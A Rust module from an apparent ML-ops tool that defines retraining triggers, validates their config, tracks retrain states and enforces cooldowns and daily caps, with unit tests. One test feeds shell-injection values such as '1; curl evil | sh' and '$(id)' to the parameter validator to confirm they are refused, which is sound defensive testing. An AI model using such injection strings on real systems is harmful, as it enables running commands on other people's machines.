//! Retraining triggers and the retrains they start. A triggers file names, per trigger, the
//! model it retrains, the pipeline that does it (a path a worker resolves inside its own
//! pipelines folder: the server never runs commands), the gate the new version must pass, the
//! deployment its canary goes to, and what fires it: a schedule (cron), alerts, new data, or a
//! person. The server decides whether a firing starts a retrain (one at a time per model, a
//! cooldown, a daily cap) and keeps every retrain's causal chain: cause -> pipeline run ->
//! version -> gate -> rollout -> decision.

use std::collections::BTreeMap;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use crate::alerting::duration_ms;
use crate::{Error, Result};

pub const MAX_TRIGGERS: usize = 200;
const MAX_TEXT: usize = 1_024;
/// A retrain a worker claimed must hear from it this often, or it is given up as failed.
pub const LEASE_MS: i64 = 120_000;
const DAY_MS: i64 = 86_400_000;

fn default_cooldown() -> u64 {
    3_600_000
}

fn default_max_per_day() -> u32 {
    3
}

fn default_every() -> u64 {
    60_000
}

/// The gate a retrained version must pass before its canary starts.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TriggerGate {
    /// The holdout: a file in the pipeline's folder (the worker uploads it), or an artifact URI
    /// (`runs:/...`, `mlflow-artifacts:/...`); without it, the policy's pinned holdout.
    #[serde(default)]
    pub data: Option<String>,
    pub label: String,
    /// Without them, the policy's gate rules, else the defaults.
    #[serde(default)]
    pub rules: Option<Vec<String>>,
}

/// New or changed files under a path of the pipeline's folder, or under a prefix of the
/// artifact store (`mlflow-artifacts:/...`), checked by the worker.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DataWatch {
    pub path: String,
    #[serde(default = "default_every", with = "duration_ms")]
    pub every: u64,
}

/// What fires a trigger (a person always can).
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FiredBy {
    /// Cron, five fields, UTC (`0 3 * * *`).
    #[serde(default)]
    pub schedule: Option<String>,
    /// Alert names (from `slipway alerts rules`) that fire it when they fire for its deployment.
    #[serde(default)]
    pub alerts: Vec<String>,
    #[serde(default)]
    pub data: Option<DataWatch>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Trigger {
    pub name: String,
    /// The registered model the retrain adds a version to.
    pub model: String,
    /// The deployment the new version's canary goes to; without one, the retrain ends at a
    /// gated, registered version.
    #[serde(default)]
    pub deployment: Option<String>,
    /// The pipeline file, relative to the worker's `--pipelines-dir`.
    pub pipeline: String,
    #[serde(default)]
    pub params: BTreeMap<String, String>,
    /// The pipeline output holding the MLflow model folder to register (e.g. `model/`).
    pub model_path: String,
    pub gate: TriggerGate,
    #[serde(default)]
    pub on: FiredBy,
    /// The canary on the deployment: the body of `POST /deployments/NAME/rollout` without the
    /// candidate (strategy, steps, analysis); without it, the deployment's defaults.
    #[serde(default)]
    pub rollout: Option<serde_json::Value>,
    #[serde(default = "default_cooldown", with = "duration_ms")]
    pub cooldown: u64,
    #[serde(default = "default_max_per_day")]
    pub max_per_day: u32,
}

#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TriggerConfig {
    #[serde(default)]
    pub triggers: Vec<Trigger>,
}

/// A path inside the pipelines folder: relative, no `..`.
fn relative_path(field: &str, trigger: &str, path: &str) -> Result<()> {
    let bad = path.is_empty()
        || path.starts_with('/')
        || path.contains('\\')
        || path.split('/').any(|part| part == "..")
        || path.len() > MAX_TEXT;
    if bad {
        return Err(Error::invalid(format!(
            "trigger '{trigger}': {field} '{path}' must be a path relative to the worker's pipelines folder, without '..'"
        )));
    }
    Ok(())
}

pub fn parse_schedule(schedule: &str) -> Result<croner::Cron> {
    if schedule.split_whitespace().count() != 5 {
        return Err(Error::invalid(format!(
            "schedule '{schedule}' is not cron's five fields (minute hour day-of-month month day-of-week), e.g. '0 3 * * *'"
        )));
    }
    croner::Cron::from_str(schedule)
        .map_err(|e| Error::invalid(format!("schedule '{schedule}': {e}")))
}

/// The first time after `after_ms` the schedule names (UTC).
pub fn next_fire(schedule: &croner::Cron, after_ms: i64) -> Option<i64> {
    let after = chrono::DateTime::from_timestamp_millis(after_ms)?.naive_utc();
    schedule
        .find_next_occurrence(&after, false)
        .ok()
        .map(|next| next.and_utc().timestamp_millis())
}

impl Trigger {
    /// Refuses parameter values a shell would read as more than a word. A pipeline fills them
    /// into its steps' commands as they are, and the worker runs those commands as its own user
    /// on its own machine: whoever may apply triggers must not be able to run a command there.
    pub fn check_params(&self) -> Result<()> {
        let plain = |c: char| c.is_ascii_alphanumeric() || "._,:/=+@%-".contains(c);
        if let Some((key, value)) = self.params.iter().find(|(_, v)| !v.chars().all(plain)) {
            return Err(Error::invalid(format!(
                "trigger '{}': param {key}={value:?} holds characters a shell reads as more than a word; a trigger's params are letters, digits and ._,:/=+@%-",
                self.name
            )));
        }
        Ok(())
    }
}

impl TriggerConfig {
    pub fn validate(&self) -> Result<()> {
        if self.triggers.len() > MAX_TRIGGERS {
            return Err(Error::invalid(format!(
                "{} triggers; at most {MAX_TRIGGERS}",
                self.triggers.len()
            )));
        }
        let mut names = std::collections::BTreeSet::new();
        for t in &self.triggers {
            let valid_name = !t.name.is_empty()
                && t.name.len() <= 64
                && t.name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
            if !valid_name {
                return Err(Error::invalid(format!(
                    "trigger name '{}' must be 1 to 64 letters, digits, '-' or '_'",
                    t.name
                )));
            }
            if !names.insert(t.name.as_str()) {
                return Err(Error::invalid(format!(
                    "trigger '{}' is declared twice",
                    t.name
                )));
            }
            let name = &t.name;
            if t.model.trim().is_empty() || t.model.len() > MAX_TEXT {
                return Err(Error::invalid(format!(
                    "trigger '{name}': model names the registered model it retrains"
                )));
            }
            if t.deployment.as_deref().is_some_and(str::is_empty) {
                return Err(Error::invalid(format!(
                    "trigger '{name}': deployment is empty; leave it out to stop at a gated version"
                )));
            }
            relative_path("pipeline", name, &t.pipeline)?;
            relative_path("model_path", name, t.model_path.trim_end_matches('/'))?;
            if t.gate.label.trim().is_empty() {
                return Err(Error::invalid(format!(
                    "trigger '{name}': gate.label names the holdout's label column"
                )));
            }
            if let Some(data) = &t.gate.data
                && !(data.starts_with("runs:/") || data.starts_with("mlflow-artifacts:"))
            {
                relative_path("gate.data", name, data)?;
            }
            if t.gate.rules.as_ref().is_some_and(Vec::is_empty) {
                return Err(Error::invalid(format!(
                    "trigger '{name}': gate.rules is empty; leave it out for the policy's or the default rules"
                )));
            }
            if t.params.len() > 100
                || t.params
                    .iter()
                    .any(|(k, v)| k.len() > MAX_TEXT || v.len() > MAX_TEXT)
            {
                return Err(Error::invalid(format!(
                    "trigger '{name}': at most 100 params of 1,024 characters"
                )));
            }
            t.check_params()?;
            if let Some(schedule) = &t.on.schedule {
                parse_schedule(schedule)
                    .map_err(|e| Error::invalid(format!("trigger '{name}': {e}")))?;
            }
            if t.on.alerts.iter().any(|a| a.trim().is_empty()) || t.on.alerts.len() > 50 {
                return Err(Error::invalid(format!(
                    "trigger '{name}': on.alerts lists alert names (at most 50)"
                )));
            }
            if !t.on.alerts.is_empty() && t.deployment.is_none() {
                return Err(Error::invalid(format!(
                    "trigger '{name}': alerts fire per deployment; name the deployment"
                )));
            }
            if let Some(watch) = &t.on.data {
                if !watch.path.starts_with("mlflow-artifacts:") {
                    relative_path("on.data.path", name, watch.path.trim_end_matches('/'))?;
                }
                if watch.every < 5_000 {
                    return Err(Error::invalid(format!(
                        "trigger '{name}': on.data.every is at least 5s"
                    )));
                }
            }
            if let Some(rollout) = &t.rollout {
                if !rollout.is_object() || rollout.get("candidate_uri").is_some() {
                    return Err(Error::invalid(format!(
                        "trigger '{name}': rollout is the canary's settings (strategy, steps, analysis), without candidate_uri"
                    )));
                }
                if t.deployment.is_none() {
                    return Err(Error::invalid(format!(
                        "trigger '{name}': rollout needs a deployment to roll out on"
                    )));
                }
            }
            if t.max_per_day == 0 || t.max_per_day > 100 {
                return Err(Error::invalid(format!(
                    "trigger '{name}': max_per_day is between 1 and 100"
                )));
            }
        }
        Ok(())
    }

    pub fn trigger(&self, name: &str) -> Option<&Trigger> {
        self.triggers.iter().find(|t| t.name == name)
    }

    /// Triggers added, changed and removed by applying `next`.
    pub fn diff(&self, next: &TriggerConfig) -> TriggerDiff {
        let old: BTreeMap<&str, &Trigger> =
            self.triggers.iter().map(|t| (t.name.as_str(), t)).collect();
        let new: BTreeMap<&str, &Trigger> =
            next.triggers.iter().map(|t| (t.name.as_str(), t)).collect();
        TriggerDiff {
            added: new
                .keys()
                .filter(|k| !old.contains_key(*k))
                .map(|k| k.to_string())
                .collect(),
            changed: new
                .iter()
                .filter(|(k, v)| old.get(*k).is_some_and(|o| o != *v))
                .map(|(k, _)| k.to_string())
                .collect(),
            removed: old
                .keys()
                .filter(|k| !new.contains_key(*k))
                .map(|k| k.to_string())
                .collect(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TriggerDiff {
    pub added: Vec<String>,
    pub changed: Vec<String>,
    pub removed: Vec<String>,
}

pub type StoredTriggerConfig = crate::Revisioned<TriggerConfig>;

/// Where a retrain is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RetrainState {
    /// The firing was refused (busy, cooldown, daily cap); `reason` says which.
    Skipped,
    /// Waiting for a worker.
    Queued,
    /// A worker runs the pipeline, registers and gates the version.
    Running,
    /// The canary runs on the deployment.
    RollingOut,
    /// The policy wants approval before the version goes further.
    AwaitingApproval,
    /// Ended: the gate refused the new version.
    GateFailed,
    /// Ended: a gated version, with no deployment to roll out to.
    Registered,
    /// Ended: the canary promoted the new version.
    Promoted,
    /// Ended: the canary rolled back (or was aborted).
    RolledBack,
    /// Ended: the pipeline, the registration or the worker failed; `reason` says how.
    Failed,
}

impl RetrainState {
    pub const ALL: [RetrainState; 10] = [
        RetrainState::Skipped,
        RetrainState::Queued,
        RetrainState::Running,
        RetrainState::RollingOut,
        RetrainState::AwaitingApproval,
        RetrainState::GateFailed,
        RetrainState::Registered,
        RetrainState::Promoted,
        RetrainState::RolledBack,
        RetrainState::Failed,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            RetrainState::Skipped => "skipped",
            RetrainState::Queued => "queued",
            RetrainState::Running => "running",
            RetrainState::RollingOut => "rolling_out",
            RetrainState::AwaitingApproval => "awaiting_approval",
            RetrainState::GateFailed => "gate_failed",
            RetrainState::Registered => "registered",
            RetrainState::Promoted => "promoted",
            RetrainState::RolledBack => "rolled_back",
            RetrainState::Failed => "failed",
        }
    }

    pub fn parse(raw: &str) -> Result<RetrainState> {
        RetrainState::ALL
            .into_iter()
            .find(|s| s.as_str() == raw)
            .ok_or_else(|| {
                Error::invalid(format!(
                    "unknown retrain state '{raw}' (one of: {})",
                    RetrainState::ALL.map(|s| s.as_str()).join(", ")
                ))
            })
    }

    /// Holds the model: no other retrain of it starts meanwhile.
    pub fn is_active(self) -> bool {
        matches!(
            self,
            RetrainState::Queued
                | RetrainState::Running
                | RetrainState::RollingOut
                | RetrainState::AwaitingApproval
        )
    }

    /// Where a worker may move a retrain from here.
    pub fn may_become(self, next: RetrainState) -> bool {
        use RetrainState::*;
        match self {
            Running => matches!(
                next,
                Running | RollingOut | AwaitingApproval | GateFailed | Registered | Failed
            ),
            RollingOut | AwaitingApproval => {
                matches!(
                    next,
                    RollingOut | AwaitingApproval | Promoted | RolledBack | Failed
                )
            }
            _ => false,
        }
    }
}

/// Why a retrain started.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Cause {
    Schedule {
        schedule: String,
        due_ms: i64,
    },
    Alert {
        alert: String,
        alert_id: i64,
        fingerprint: String,
        deployment: String,
    },
    Data {
        path: String,
        digest: String,
    },
    Manual {
        reason: String,
    },
}

impl Cause {
    pub fn kind(&self) -> &'static str {
        match self {
            Cause::Schedule { .. } => "schedule",
            Cause::Alert { .. } => "alert",
            Cause::Data { .. } => "data",
            Cause::Manual { .. } => "manual",
        }
    }

    pub fn describe(&self) -> String {
        match self {
            Cause::Schedule { schedule, .. } => format!("schedule '{schedule}'"),
            Cause::Alert {
                alert,
                alert_id,
                deployment,
                ..
            } => {
                format!("alert {alert} (#{alert_id}) on {deployment}")
            }
            Cause::Data { path, digest } => {
                format!(
                    "new data under {path} ({})",
                    &digest[..digest.len().min(12)]
                )
            }
            Cause::Manual { reason } => format!("by hand: {reason}"),
        }
    }
}

/// One retrain: a firing of a trigger and what became of it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Retrain {
    pub id: i64,
    pub trigger: String,
    pub model_name: String,
    pub deployment: Option<String>,
    pub state: RetrainState,
    pub cause: Cause,
    pub reason: Option<String>,
    pub requested_by: String,
    pub created_ms: i64,
    pub updated_ms: i64,
    pub claimed_by: Option<String>,
    pub lease_until_ms: Option<i64>,
    pub pipeline_run_id: Option<String>,
    pub version: Option<i64>,
    pub gate_id: Option<i64>,
    pub rollout_id: Option<i64>,
}

/// What a worker reports as a retrain moves on.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct RetrainProgress {
    pub state: Option<RetrainState>,
    pub reason: Option<String>,
    pub pipeline_run_id: Option<String>,
    pub version: Option<i64>,
    pub gate_id: Option<i64>,
    pub rollout_id: Option<i64>,
}

/// Whether a firing of `trigger` at `now` may start a retrain, given the model's recent
/// retrains (any trigger's, newest first): one at a time per model, the trigger's cooldown
/// since its last start, and its daily cap.
pub fn may_start(
    trigger: &Trigger,
    now: i64,
    recent: &[Retrain],
) -> std::result::Result<(), String> {
    if let Some(busy) = recent.iter().find(|r| r.state.is_active()) {
        return Err(format!(
            "retrain {} of '{}' is {} (one retrain at a time per model)",
            busy.id,
            busy.model_name,
            busy.state.as_str()
        ));
    }
    let started: Vec<&Retrain> = recent
        .iter()
        .filter(|r| r.trigger == trigger.name && r.state != RetrainState::Skipped)
        .collect();
    if let Some(last) = started.first() {
        let since = now.saturating_sub(last.created_ms);
        if since < i64::try_from(trigger.cooldown).unwrap_or(i64::MAX) {
            return Err(format!(
                "trigger '{}' started retrain {} {}s ago; its cooldown is {}s",
                trigger.name,
                last.id,
                since / 1_000,
                trigger.cooldown / 1_000
            ));
        }
    }
    let today = started
        .iter()
        .filter(|r| now.saturating_sub(r.created_ms) < DAY_MS)
        .count();
    if today >= trigger.max_per_day as usize {
        return Err(format!(
            "trigger '{}' started {today} retrains in the last 24 hours, its max_per_day",
            trigger.name
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn trigger() -> Trigger {
        Trigger {
            name: "churn-drift".into(),
            model: "churn".into(),
            deployment: Some("churn".into()),
            pipeline: "churn/pipeline.yml".into(),
            params: BTreeMap::new(),
            model_path: "model/".into(),
            gate: TriggerGate {
                data: Some("data/holdout.csv".into()),
                label: "target".into(),
                rules: None,
            },
            on: FiredBy {
                schedule: Some("0 3 * * *".into()),
                alerts: vec!["DriftHigh".into()],
                data: None,
            },
            rollout: None,
            cooldown: 600_000,
            max_per_day: 2,
        }
    }

    fn retrain(id: i64, trigger: &str, state: RetrainState, created_ms: i64) -> Retrain {
        Retrain {
            id,
            trigger: trigger.into(),
            model_name: "churn".into(),
            deployment: None,
            state,
            cause: Cause::Manual {
                reason: "test".into(),
            },
            reason: None,
            requested_by: "alice".into(),
            created_ms,
            updated_ms: created_ms,
            claimed_by: None,
            lease_until_ms: None,
            pipeline_run_id: None,
            version: None,
            gate_id: None,
            rollout_id: None,
        }
    }

    #[test]
    fn a_triggers_file_is_checked_whole() {
        let good = TriggerConfig {
            triggers: vec![trigger()],
        };
        good.validate().unwrap();
        let mut bad = good.clone();
        bad.triggers[0].pipeline = "../etc/pipeline.yml".into();
        assert!(
            bad.validate()
                .unwrap_err()
                .to_string()
                .contains("without '..'")
        );
        let mut bad = good.clone();
        bad.triggers[0].on.schedule = Some("every day".into());
        assert!(
            bad.validate()
                .unwrap_err()
                .to_string()
                .contains("five fields")
        );
        let mut bad = good.clone();
        bad.triggers[0].deployment = None;
        assert!(
            bad.validate()
                .unwrap_err()
                .to_string()
                .contains("name the deployment")
        );
        let mut bad = good.clone();
        bad.triggers.push(trigger());
        assert!(bad.validate().unwrap_err().to_string().contains("twice"));
        for injected in ["1; curl evil | sh", "$(id)", "`id`", "a b", "x\ny", "'q'"] {
            let mut bad = good.clone();
            bad.triggers[0].params.insert("n".into(), injected.into());
            let error = bad.validate().unwrap_err().to_string();
            assert!(error.contains("more than a word"), "{injected}: {error}");
        }
        let mut fine = good.clone();
        fine.triggers[0]
            .params
            .insert("n".into(), "s3://bucket/a-b_c.csv,0.5".into());
        fine.validate().unwrap();
        let parsed: TriggerConfig = serde_json::from_value(serde_json::json!({"triggers": [{
            "name": "t", "model": "m", "pipeline": "p.yml", "model_path": "model",
            "gate": {"label": "y"}, "cooldown": "30m"}]}))
        .unwrap();
        assert_eq!(parsed.triggers[0].cooldown, 1_800_000);
        assert_eq!(parsed.triggers[0].max_per_day, 3);
        parsed.validate().unwrap();
    }

    #[test]
    fn schedules_fire_at_the_next_matching_minute_in_utc() {
        let cron = parse_schedule("0 3 * * *").unwrap();
        // 2026-12-05T08:00:00Z -> 2026-12-06T03:00:00Z
        let after = 1_796_457_600_000;
        assert_eq!(next_fire(&cron, after), Some(after + 19 * 3_600_000));
        let every_5 = parse_schedule("*/5 * * * *").unwrap();
        assert_eq!(next_fire(&every_5, after), Some(after + 300_000));
        assert!(parse_schedule("61 * * * *").is_err());
    }

    #[test]
    fn one_retrain_at_a_time_with_cooldown_and_daily_cap() {
        let t = trigger();
        let now = 10 * DAY_MS;
        assert_eq!(may_start(&t, now, &[]), Ok(()));
        let busy = [retrain(4, "other", RetrainState::RollingOut, now - DAY_MS)];
        assert!(
            may_start(&t, now, &busy)
                .unwrap_err()
                .contains("one retrain at a time")
        );
        let recent = [retrain(
            5,
            "churn-drift",
            RetrainState::Promoted,
            now - 60_000,
        )];
        assert!(
            may_start(&t, now, &recent)
                .unwrap_err()
                .contains("cooldown")
        );
        // Skipped firings count for neither.
        let skipped = [retrain(
            6,
            "churn-drift",
            RetrainState::Skipped,
            now - 60_000,
        )];
        assert_eq!(may_start(&t, now, &skipped), Ok(()));
        let two = [
            retrain(7, "churn-drift", RetrainState::Failed, now - 3_600_000),
            retrain(8, "churn-drift", RetrainState::Promoted, now - 7_200_000),
        ];
        assert!(
            may_start(&t, now, &two)
                .unwrap_err()
                .contains("max_per_day")
        );
        let yesterday = [
            retrain(7, "churn-drift", RetrainState::Failed, now - 3_600_000),
            retrain(8, "churn-drift", RetrainState::Promoted, now - DAY_MS - 1),
        ];
        assert_eq!(may_start(&t, now, &yesterday), Ok(()));
    }

    #[test]
    fn workers_move_retrains_forward_only() {
        use RetrainState::*;
        assert!(Running.may_become(RollingOut));
        assert!(RollingOut.may_become(Promoted));
        assert!(
            !Queued.may_become(Promoted),
            "a retrain is claimed before it moves"
        );
        assert!(
            !Promoted.may_become(RolledBack),
            "an ended retrain stays ended"
        );
        assert!(!GateFailed.may_become(RollingOut));
        for state in RetrainState::ALL {
            assert_eq!(RetrainState::parse(state.as_str()).unwrap(), state);
        }
    }
}
